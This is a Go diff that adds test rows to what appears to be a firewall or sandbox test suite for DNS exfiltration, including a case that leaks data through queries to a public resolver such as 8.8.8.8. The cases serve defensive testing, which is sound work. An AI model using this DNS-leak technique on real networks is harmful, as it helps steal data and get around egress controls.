@@ -14,9 +14,15 @@ func chosenServerRows() []Row {
 	return []Row{
 		{
 			ID: "dns/server", Vector: "a question to a server of the program's own choice", Right: "a server is an address like any other",
-			Source: "E2B, gh-aw-firewall #9", Rules: evilZone, Lifted: append(slices.Clone(evilZone), "--allow", Evil.String()+":53"),
+			Source: "E2B, gh-aw-firewall #9, gh-aw-firewall #68, dust PR #25991", Rules: evilZone, Lifted: append(slices.Clone(evilZone), "--allow", Evil.String()+":53"),
 			Attack: func(a *Attacker) error { return a.sendMessage(server, query(a.leak(), dns.TypeA)) },
 			Harm:   Heard, Record: []string{"network-connect verdict=deny protocol=udp dest_ip=203.0.113.66 dest_port=53"},
+		},
+		{
+			ID: "dns/server-known", Vector: "a question to a public resolver, which others allow by themselves", Right: "a rule for names opens no server",
+			Source: "E2B; dust PR #25991; sbx #72", Rules: evilZone, Lifted: append(slices.Clone(evilZone), "--allow", Google.String()+":53"),
+			Attack: func(a *Attacker) error { return a.sendMessage(at(Google, 53), query(a.leak(), dns.TypeA)) },
+			Harm:   Heard, Record: []string{"network-connect verdict=deny protocol=udp dest_ip=8.8.8.8 dest_port=53"},
 		},
 		{
 			ID: "dns/server-question", Vector: "a question that no rule covers, to a server that a rule allows", Right: "judged as if it were ours; it is not sent",
